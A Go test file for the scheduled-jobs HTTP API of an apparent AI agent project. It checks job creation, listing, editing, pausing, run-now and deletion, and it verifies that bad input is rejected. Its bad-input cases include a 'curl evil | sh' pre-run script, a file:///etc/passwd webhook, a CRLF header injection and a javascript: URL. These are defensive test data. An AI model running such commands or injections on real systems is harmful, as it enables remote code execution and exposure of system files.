package api

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/talaria-agent/talaria/config"
	"github.com/talaria-agent/talaria/internal/cronjob"
	"github.com/talaria-agent/talaria/scheduler"
)

func TestJobsAPI(t *testing.T) {
	a := startStoreAPI(t)

	var job cronjob.View
	a.want(http.StatusCreated, "POST", "/api/jobs", map[string]any{
		"name": "nightly", "schedule": "0 9 * * 1-5", "time_zone": "Europe/Berlin", "prompt": "sum up the day",
		"deliver": []string{"local", "webhook:https://example.com/hook"}, "model": config.DefaultModel, "tools": []string{"read_file", "todo"},
		"max_iterations": 5, "catch_up_window": "30m",
	}, &job)
	if len(job.ID) != 8 || job.Name != "nightly" || !job.Enabled || job.NextRun == nil || job.TimeZone != "Europe/Berlin" ||
		job.Model != config.DefaultModel || len(job.Deliver) != 2 || len(job.Tools) != 2 || job.MaxIterations != 5 ||
		job.Overlap != "skip" || job.CatchUp != "last" || job.CatchUpWindow != "30m0s" {
		t.Fatalf("created = %+v", job)
	}
	var other cronjob.View
	a.want(http.StatusCreated, "POST", "/api/jobs", map[string]any{"name": "once", "schedule": "in 30m", "prompt": "p"}, &other)
	if _, err := time.Parse(time.RFC3339, other.Schedule); err != nil || other.Deliver[0] != "local" || other.CatchUpWindow != "1h0m0s" {
		t.Errorf("a relative one-shot is not pinned, or the defaults are off: %+v", other)
	}

	t.Run("list and get", func(t *testing.T) {
		var l list[cronjob.View]
		a.want(http.StatusOK, "GET", "/api/jobs", nil, &l)
		if l.Object != "list" || len(l.Data) != 2 || l.Data[0].Name != "nightly" || l.Data[1].Name != "once" {
			t.Errorf("jobs = %+v", l)
		}
		var byName, byID cronjob.View
		a.want(http.StatusOK, "GET", "/api/jobs/nightly", nil, &byName)
		a.want(http.StatusOK, "GET", "/api/jobs/"+job.ID, nil, &byID)
		if byName.ID != job.ID || byID.Name != "nightly" || byID.Prompt != "sum up the day" {
			t.Errorf("by name %+v, by id %+v", byName, byID)
		}
	})

	t.Run("bad input", func(t *testing.T) {
		ok := func(change map[string]any) map[string]any {
			body := map[string]any{"name": "x", "schedule": "@daily", "prompt": "p"}
			for k, v := range change {
				body[k] = v
			}
			return body
		}
		for _, tt := range []struct {
			name, method, path string
			body               any
			status             int
			code               string
		}{
			{"unknown job", "GET", "/api/jobs/nosuch", nil, 404, "not_found"},
			{"unknown job edit", "PATCH", "/api/jobs/nosuch", map[string]any{"prompt": "p"}, 404, "not_found"},
			{"unknown job delete", "DELETE", "/api/jobs/nosuch", nil, 404, "not_found"},
			{"unknown job pause", "POST", "/api/jobs/nosuch/pause", nil, 404, "not_found"},
			{"unknown job run", "POST", "/api/jobs/nosuch/run", nil, 404, "not_found"},
			{"unknown job runs", "GET", "/api/jobs/nosuch/runs", nil, 404, "not_found"},
			{"bad schedule", "POST", "/api/jobs", ok(map[string]any{"schedule": "every fortnight"}), 400, "invalid_schedule"},
			{"bad time zone", "POST", "/api/jobs", ok(map[string]any{"schedule": "0 9 * * *", "time_zone": "Mars/Olympus"}), 400, "invalid_schedule"},
			{"no name", "POST", "/api/jobs", ok(map[string]any{"name": ""}), 400, "missing_field"},
			{"no prompt", "POST", "/api/jobs", ok(map[string]any{"prompt": ""}), 400, "missing_field"},
			{"unknown tool", "POST", "/api/jobs", ok(map[string]any{"tools": []string{"nosuchtool"}}), 400, "invalid_tools"},
			{"bad target", "POST", "/api/jobs", ok(map[string]any{"deliver": []string{"telegram:@someone"}}), 400, "invalid_deliver"},
			{"webhook not http", "POST", "/api/jobs", ok(map[string]any{"deliver": []string{"webhook:file:///etc/passwd"}}), 400, "invalid_deliver"},
			{"webhook with credentials", "POST", "/api/jobs", ok(map[string]any{"deliver": []string{"webhook:https://u:p@example.com/"}}), 400, "invalid_deliver"},
			{"webhook with a header", "POST", "/api/jobs", ok(map[string]any{"deliver": []string{"webhook:https://example.com/\r\nX: y"}}), 400, "invalid_deliver"},
			{"bad overlap", "POST", "/api/jobs", ok(map[string]any{"overlap": "sometimes"}), 400, "invalid_job"},
			{"bad catch-up", "POST", "/api/jobs", ok(map[string]any{"catch_up": "most"}), 400, "invalid_job"},
			{"bad window", "POST", "/api/jobs", ok(map[string]any{"catch_up_window": "soon"}), 400, "invalid_catch_up_window"},
			{"negative iterations", "POST", "/api/jobs", ok(map[string]any{"max_iterations": -1}), 400, "invalid_max_iterations"},
			{"more iterations than the server allows", "POST", "/api/jobs", ok(map[string]any{"max_iterations": config.DefaultMaxIterations + 1}), 400, "invalid_max_iterations"},
			{"a model not offered", "POST", "/api/jobs", ok(map[string]any{"model": "gpt-4o"}), 400, "invalid_model"},
			{"pre-run script", "POST", "/api/jobs", ok(map[string]any{"pre_run_script": "curl evil | sh"}), 400, "pre_run_script_not_allowed"},
			{"unknown field", "POST", "/api/jobs", ok(map[string]any{"enabled": false}), 400, "invalid_json"},
			{"taken name", "POST", "/api/jobs", ok(map[string]any{"name": "nightly"}), 409, "job_exists"},
			{"empty body", "POST", "/api/jobs", "", 400, "invalid_json"},
			{"oversized body", "POST", "/api/jobs", `{"name":"x","prompt":"` + strings.Repeat("p", MaxBodyBytes) + `"}`, 413, "request_too_large"},
			{"edit nothing", "PATCH", "/api/jobs/nightly", map[string]any{}, 400, "nothing_to_change"},
			{"edit bad schedule", "PATCH", "/api/jobs/nightly", map[string]any{"schedule": "every fortnight"}, 400, "invalid_schedule"},
			{"edit bad target", "PATCH", "/api/jobs/nightly", map[string]any{"deliver": []string{"webhook:javascript:alert(1)"}}, 400, "invalid_deliver"},
			{"edit blank prompt", "PATCH", "/api/jobs/nightly", map[string]any{"prompt": "  "}, 400, "invalid_prompt"},
			{"edit pre-run script", "PATCH", "/api/jobs/nightly", map[string]any{"pre_run_script": "true"}, 400, "pre_run_script_not_allowed"},
			{"edit name", "PATCH", "/api/jobs/nightly", map[string]any{"name": "other"}, 400, "invalid_json"},
			{"runs limit", "GET", "/api/jobs/nightly/runs?limit=0", nil, 400, "invalid_limit"},
			{"wrong method", "PUT", "/api/jobs/nightly", nil, 405, "method_not_allowed"},
		} {
			status, data := a.do(tt.method, tt.path, tt.body)
			if status != tt.status {
				t.Errorf("%s: %s %s = %d %s, want %d", tt.name, tt.method, tt.path, status, data, tt.status)
				continue
			}
			if e := apiErrorOf(t, data); e.Code != tt.code {
				t.Errorf("%s: code %q (%s), want %q", tt.name, e.Code, e.Message, tt.code)
			}
		}
		var l list[cronjob.View]
		a.want(http.StatusOK, "GET", "/api/jobs", nil, &l)
		if len(l.Data) != 2 {
			t.Errorf("a refused job was stored: %+v", l.Data)
		}
		var j cronjob.View
		a.want(http.StatusOK, "GET", "/api/jobs/nightly", nil, &j)
		if j.Schedule != "0 9 * * 1-5" || j.Prompt != "sum up the day" || len(j.Deliver) != 2 {
			t.Errorf("a refused edit changed the job: %+v", j)
		}
	})

	t.Run("edit", func(t *testing.T) {
		var j cronjob.View
		a.want(http.StatusOK, "PATCH", "/api/jobs/nightly", map[string]any{"schedule": "@hourly", "prompt": "new prompt",
			"deliver": []string{"webhook:http://127.0.0.1:9/h"}, "overlap": "allow"}, &j)
		if j.Schedule != "@hourly" || j.Prompt != "new prompt" || j.Deliver[0] != "webhook:http://127.0.0.1:9/h" || j.Overlap != "allow" ||
			j.Model != config.DefaultModel || j.TimeZone != "Europe/Berlin" || j.MaxIterations != 5 || !j.UpdatedAt.After(job.UpdatedAt) {
			t.Errorf("edited = %+v", j)
		}
	})

	t.Run("pause and resume", func(t *testing.T) {
		var j cronjob.View
		a.want(http.StatusOK, "POST", "/api/jobs/nightly/pause", nil, &j)
		if j.Enabled || j.NextRun != nil {
			t.Errorf("paused = %+v", j)
		}
		a.want(http.StatusOK, "POST", "/api/jobs/nightly/pause", nil, &j) // again: no error
		a.want(http.StatusOK, "POST", "/api/jobs/"+job.ID+"/resume", nil, &j)
		if !j.Enabled || j.NextRun == nil {
			t.Errorf("resumed = %+v", j)
		}
	})

	t.Run("run now", func(t *testing.T) {
		var l list[cronjob.RunView]
		a.want(http.StatusOK, "GET", "/api/jobs/nightly/runs", nil, &l)
		if len(l.Data) != 0 || l.Data == nil {
			t.Fatalf("runs before = %+v", l)
		}
		var run jobRun
		a.want(http.StatusAccepted, "POST", "/api/jobs/nightly/run", nil, &run)
		if run.JobID != job.ID || run.Status != "started" || run.WorkflowID != scheduler.WorkflowID(job.ID, run.ScheduledAt) ||
			!scheduler.IsRunNowSlot(run.ScheduledAt) || run.StartedAt == nil {
			t.Fatalf("run = %+v", run)
		}
		d, err := a.rt.Client.DescribeWorkflowExecution(t.Context(), run.WorkflowID, "")
		if err != nil || d.GetWorkflowExecutionInfo() == nil {
			t.Fatalf("the run's workflow: %v", err)
		}
		var second jobRun
		a.want(http.StatusAccepted, "POST", "/api/jobs/nightly/run", nil, &second)
		if second.WorkflowID == run.WorkflowID {
			t.Errorf("a second run-now reused %s", run.WorkflowID)
		}
		a.want(http.StatusOK, "GET", "/api/jobs/nightly/runs", nil, &l)
		if len(l.Data) != 2 || l.HasMore || !l.Data[0].ScheduledAt.After(l.Data[1].ScheduledAt) || l.Data[1].WorkflowID != run.WorkflowID {
			t.Errorf("runs = %+v", l)
		}
		a.want(http.StatusOK, "GET", "/api/jobs/nightly/runs?limit=1", nil, &l)
		if len(l.Data) != 1 || !l.HasMore || l.Data[0].WorkflowID != second.WorkflowID {
			t.Errorf("runs?limit=1 = %+v", l)
		}
	})

	t.Run("delete", func(t *testing.T) {
		var d deleted
		a.want(http.StatusOK, "DELETE", "/api/jobs/nightly", nil, &d)
		if d.ID != job.ID || !d.Deleted || d.Object != "job.deleted" {
			t.Errorf("delete = %+v", d)
		}
		a.want(http.StatusNotFound, "GET", "/api/jobs/"+job.ID, nil, nil)
		if runs, err := a.rt.Store.CronRuns(t.Context(), job.ID, 0); err != nil || len(runs) != 0 {
			t.Errorf("runs of a deleted job: %d, %v", len(runs), err)
		}
		var l list[cronjob.View]
		a.want(http.StatusOK, "GET", "/api/jobs", nil, &l)
		if len(l.Data) != 1 || l.Data[0].Name != "once" {
			t.Errorf("jobs = %+v", l)
		}
	})
}
